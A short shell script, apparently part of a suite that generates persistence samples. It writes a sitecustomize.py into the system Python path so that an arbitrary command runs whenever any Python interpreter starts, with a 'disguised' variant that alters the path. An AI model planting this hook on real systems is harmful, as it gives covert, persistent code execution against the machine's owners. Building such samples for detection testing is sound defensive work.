#!/bin/sh
# python-sitecustomize: a module that every python loads (python site
# module)
. "${0%/*}/lib.sh"
payload
put "/usr/lib/python3$([ "$variant" = disguised ] || echo .11)/sitecustomize.py" \
	644 "$head" "import os" "os.system(\"$cmd\")"
